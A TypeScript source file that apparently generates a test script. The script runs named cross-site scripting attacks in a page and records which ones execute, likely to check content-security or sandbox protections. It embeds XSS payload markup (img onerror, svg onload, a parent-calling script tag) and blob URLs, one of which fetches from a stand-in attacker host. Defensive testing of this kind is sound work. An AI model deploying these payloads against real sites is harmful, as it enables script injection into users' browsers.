import type { Attack } from './Attack';

/** Where the page keeps what came of the attacks. */
export interface Attacked {
  /** Names of the attacks that did what they meant to. */
  readonly managed: string[];
  /** How many were tried, refused ones included. */
  readonly tried: number;
  readonly isOver: boolean;
}

export const attackedName = '__attacked';

function attackText(name: string, attack: Attack, evil: string): string {
  const literal = JSON.stringify;
  const call = `__told(${literal(name)})`;
  const ran = literal(call);
  const markup = `<img src="data:," onerror='${call}'><svg onload='${call}'></svg><script>parent.${call}</script>`;
  const memory = (text: string, type: string) =>
    `URL.createObjectURL(new Blob([${text}], { type: '${type}' }))`;
  const body = attack({
    ran,
    html: literal(markup),
    blob: memory(literal(`globalThis.__told ? ${call} : fetch('${evil}/worker')`), 'text/javascript'),
    page: memory(literal(markup), 'text/html'),
    evil,
  });
  return `[${literal(name)}, async (told) => { ${body} }]`;
}

/**
 * The text of a script that tries one attack after the other in the page that runs it. Each has its own time to
 * settle, because what is refused often says nothing at all.
 */
export function attackScript(attacks: Readonly<Record<string, Attack>>, evil: string): string {
  const list = Object.entries(attacks).map(([name, attack]) => attackText(name, attack, evil));
  return `;(() => {
    if (globalThis.${attackedName}) return;
    const state = { managed: [], tried: 0, isOver: false };
    globalThis.${attackedName} = state;
    globalThis.__told = (name) => { state.managed.push(name) };
    addEventListener('message', ({ data }) => { if (data === 'ran') __told('a frame that told by message') });
    const turn = () => new Promise((go) => setTimeout(go, 50));
    const settled = (target) => Promise.race([
      new Promise((go) => { for (const type of ['load', 'error']) target.addEventListener(type, go) }),
      new Promise((go) => setTimeout(go, 500)),
    ]);
    const attacks = [${list.join(',\n')}];
    const begin = async () => {
      for (const [name, attack] of attacks) {
        state.tried += 1;
        try { await attack(() => __told(name)) } catch { /* Refused. */ }
        await turn();
      }
      state.isOver = true;
    };
    if (document.readyState === 'complete') begin(); else addEventListener('load', begin);
  })();`;
}
